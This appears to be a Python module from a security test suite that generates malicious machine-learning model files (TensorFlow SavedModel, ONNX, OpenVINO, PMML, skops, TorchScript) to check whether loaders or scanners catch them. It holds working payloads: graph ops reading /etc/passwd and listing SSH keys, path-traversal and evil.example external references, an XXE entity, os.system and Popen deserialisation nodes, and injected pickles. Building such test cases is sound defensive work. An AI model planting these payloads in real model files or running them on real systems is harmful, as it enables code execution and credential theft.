"""Graphs: SavedModel, ONNX, OpenVINO, PMML, skops, TorchScript. Made with the libraries of the environment that runs this."""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path

from attacks.case import CANARY, SHELL, Case, one, stream, system
from attacks.containers import npy, zipped

KIND = "graph"


def saved_models() -> Iterator[Case]:
    import tensorflow as tf

    class Module(tf.Module):
        def __init__(self, body: object) -> None:
            super().__init__()
            self.serve = tf.function(body, input_signature=[tf.TensorSpec([None], tf.float32)])

    def python(x: object) -> object:
        return tf.py_function(lambda y: y, [x], tf.float32)

    def writes(x: object) -> object:
        tf.io.write_file(CANARY, "x")
        return tf.identity(x)

    def reads(x: object) -> object:
        return tf.strings.length(tf.io.read_file("/etc/passwd"))

    def lists(x: object) -> object:
        return tf.io.matching_files("/home/*/.ssh/*")

    def prints(x: object) -> object:
        tf.print("weights", output_stream="file://" + CANARY)
        return tf.identity(x)

    def saves(x: object) -> object:
        tf.raw_ops.SaveV2(prefix=CANARY, tensor_names=["a"], shape_and_slices=[""], tensors=[x])
        return tf.identity(x)

    for name, body in {
        "py-function": python,
        "write-file": writes,
        "read-file": reads,
        "matching-files": lists,
        "print-to-file": prints,
        "save-v2": saves,
    }.items():
        with tempfile.TemporaryDirectory() as place:
            module = Module(body)
            tf.saved_model.save(module, place, signatures={"serve": module.serve.get_concrete_function()})
            files = {
                str(path.relative_to(place)): path.read_bytes()
                for path in sorted(Path(place).rglob("*"))
                if path.is_file()
            }
        loader = "tensorflow" if name in {"write-file", "print-to-file", "save-v2"} else "none"
        yield Case(id=f"{KIND}/savedmodel-{name}", kind=KIND, files=files, loader=loader, entry=".")
    yield Case(
        id=f"{KIND}/savedmodel-pickled-asset", kind=KIND, files={**files, "assets.extra/state": stream(system(), 2)}
    )


def onnx_cases() -> Iterator[Case]:
    from onnx import TensorProto, helper

    def model(
        node: object, tensor: object = None, opsets: tuple[tuple[str, int], ...] = (("", 20),), **more: object
    ) -> object:
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
        graph = helper.make_graph([node], "g", [x], [y], [tensor] if tensor is not None else [])
        return helper.make_model(graph, opset_imports=[helper.make_opsetid(*o) for o in opsets], **more)

    def outside(location: str, **keys: str) -> bytes:
        tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
        for key, value in {"location": location, **keys}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        return bytes(model(helper.make_node("Add", ["x", "w"], ["y"]), tensor).SerializeToString())  # type: ignore[attr-defined]

    for name, location in {
        "parent": "../../../etc/passwd",
        "absolute": "/etc/passwd",
        "nested": "a/../../x",
        "backslash": "..\\..\\x",
        "empty": "",
        "device": "/dev/zero",
        "url": "http://evil.example/w",
    }.items():
        yield one(KIND, f"onnx-external-{name}", outside(location), path="model.onnx", loader="none")
    yield one(KIND, "onnx-external-missing", outside("weights.bin"), path="model.onnx", loader="none")
    files = {"model.onnx": outside("weights.bin", offset="1099511627776", length="16"), "weights.bin": bytes(16)}
    yield Case(id=f"{KIND}/onnx-external-past-end", kind=KIND, files=files)
    yield Case(
        id=f"{KIND}/onnx-external-pickle",
        kind=KIND,
        files={"model.onnx": outside("weights.bin", length="16"), "weights.bin": stream(system(), 2)},
    )
    yield Case(
        id=f"{KIND}/onnx-external-negative",
        kind=KIND,
        files={"model.onnx": outside("weights.bin", offset="-8"), "weights.bin": bytes(16)},
    )
    yield Case(
        id=f"{KIND}/onnx-external-link",
        kind=KIND,
        files={"model.onnx": outside("weights.bin")},
        link={"weights.bin": "/etc/passwd"},
    )
    plain = bytes(model(helper.make_node("Relu", ["x"], ["y"])).SerializeToString())  # type: ignore[attr-defined]
    python = model(
        helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", compute="system"),
        opsets=(("", 20), ("ai.onnx.contrib", 1)),
    )
    yield one(KIND, "onnx-python-operator", bytes(python.SerializeToString()), path="model.onnx", loader="none")  # type: ignore[attr-defined]
    unknown = model(
        helper.make_node("Exec", ["x"], ["y"], domain="evil.ops", command=SHELL), opsets=(("", 20), ("evil.ops", 1))
    )
    yield one(KIND, "onnx-unknown-domain", bytes(unknown.SerializeToString()), path="model.onnx", loader="none")  # type: ignore[attr-defined]
    yield one(KIND, "onnx-pickle-appended", plain + stream(system(), 2), path="model.onnx", loader="none")
    yield one(
        KIND,
        "onnx-field-of-pickle",
        plain + b"\xfa\x7f" + bytes([len(stream(system(), 2))]) + stream(system(), 2),
        path="model.onnx",
        loader="none",
    )
    short = helper.make_tensor("w", TensorProto.FLOAT, [4], bytes(16), raw=True)
    short.dims[0] = 1 << 40
    yield one(
        KIND,
        "onnx-dims-lie",
        bytes(model(helper.make_node("Add", ["x", "w"], ["y"]), short).SerializeToString()),
        path="model.onnx",
        loader="none",
    )  # type: ignore[attr-defined]
    yield one(
        KIND,
        "onnx-length-overflow",
        b"\x08\x0a\x3a\xff\xff\xff\xff\xff\xff\xff\xff\x7f" + plain,
        path="model.onnx",
        loader="none",
    )


def documents() -> Iterator[Case]:
    net = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="{kind}" version="{version}"><data {data}/></layer></layers><edges/></net>'
    for name, (kind, version, data) in {
        "extension-operator": ("EvilOp", "extension", 'library="./evil.so"'),
        "weights-past-end": ("Const", "opset1", 'element_type="f32" shape="4" offset="4096" size="16"'),
        "weights-negative": ("Const", "opset1", 'element_type="f32" shape="4" offset="-8" size="16"'),
    }.items():
        files = {"model.xml": net.format(kind=kind, version=version, data=data).encode(), "model.bin": bytes(16)}
        yield Case(id=f"{KIND}/openvino-{name}", kind=KIND, files=files)
    yield Case(
        id=f"{KIND}/openvino-bin-pickle",
        kind=KIND,
        files={
            "model.xml": net.format(
                kind="Const", version="opset1", data='element_type="f32" shape="1" offset="0" size="4"'
            ).encode(),
            "model.bin": stream(system(), 2),
        },
    )
    xxe = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>'
    yield one(KIND, "pmml-external-entity", xxe.encode(), path="model.pmml", loader="none")
    extension = '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="script" value="x"><script>java.lang.Runtime.getRuntime().exec("id")</script></Extension></Header><DataDictionary/></PMML>'
    yield one(KIND, "pmml-script", extension.encode(), path="model.pmml", loader="none")
    stylesheet = '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>'
    yield one(KIND, "pmml-stylesheet", stylesheet.encode(), path="model.pmml", loader="none")


def skops_cases() -> Iterator[Case]:
    def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}

    items = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 9,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "__id__": 8,
            "content": [],
        },
        "content": {},
    }
    forms = {
        "function": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
        "type": node("TypeNode", "builtins", "type", content={"__class__": "Popen", "__module__": "subprocess"}),
        "method": node(
            "MethodNode", "builtins", "method", content={"func": "system", "obj": node("TypeNode", "os", "x")}
        ),
        "partial": node(
            "PartialNode",
            "functools",
            "partial",
            content={
                "func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
                "args": {},
                "kwds": {},
                "namespace": {},
            },
        ),
        "operator-function": node("OperatorFuncNode", "operator", "methodcaller", attrs=items),
        "object-unknown": node("ObjectNode", "evil_module", "Model", content=items),
        "object-popen": node("ObjectNode", "subprocess", "Popen", content=items),
        "loader-unknown": node("EvilNode", "os", "system", content={}),
    }
    for name, tree in forms.items():
        schema = json.dumps({**tree, "protocol": 2, "_skops_version": "0.16.0"}).encode()
        yield one(KIND, f"skops-{name}", zipped([("schema.json", schema)]), path="model.skops", loader="none")
    honest = json.dumps(
        {**node("JsonNode", "builtins", "str", content='"a"', is_json=True), "protocol": 2, "_skops_version": "0.16.0"}
    ).encode()
    yield one(
        KIND,
        "skops-extra-pickle",
        zipped([("schema.json", honest), ("1.pkl", stream(system(), 2))]),
        path="model.skops",
        loader="none",
    )
    yield one(
        KIND,
        "skops-object-array",
        zipped([("schema.json", honest), ("1.npy", npy("|O", stream(system(), 2)))]),
        path="model.skops",
        loader="none",
    )


def scripts() -> Iterator[Case]:
    """TorchScript and torch.export archives whose pickles, constants or code reach outside."""
    import torch

    with tempfile.TemporaryDirectory() as place:
        path = os.path.join(place, "m.pt")
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), path)
        import zipfile

        with zipfile.ZipFile(path) as archive:
            members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    top = members[0][0].split("/")[0]
    for name, member in {
        "data": "data.pkl",
        "constants": "constants.pkl",
        "debug": "code/evil.debug_pkl",
        "extra": "extra/notes",
    }.items():
        changed = [(n, d) for n, d in members if n != f"{top}/{member}"] + [(f"{top}/{member}", stream(system(), 2))]
        yield one(KIND, f"torchscript-{name}-pickle", zipped(changed), path="model.pt", loader="none")
    for name, call in {
        "from-file": f'torch.from_file("{CANARY}", True, 4)',
        "save": f'torch.save(x, "{CANARY}")',
        "ops-custom": "ops.evil.run(x)",
    }.items():
        code = f"def forward(self, x: Tensor) -> Tensor:\n  y = {call}\n  return x\n".encode()
        changed = [(n, d + code if n.endswith(".py") and "/code/" in n else d) for n, d in members]
        yield one(KIND, f"torchscript-code-{name}", zipped(changed), path="model.pt", loader="none")


def cases() -> Iterator[Case]:
    yield from saved_models()
    yield from onnx_cases()
    yield from documents()
    yield from skops_cases()
    yield from scripts()
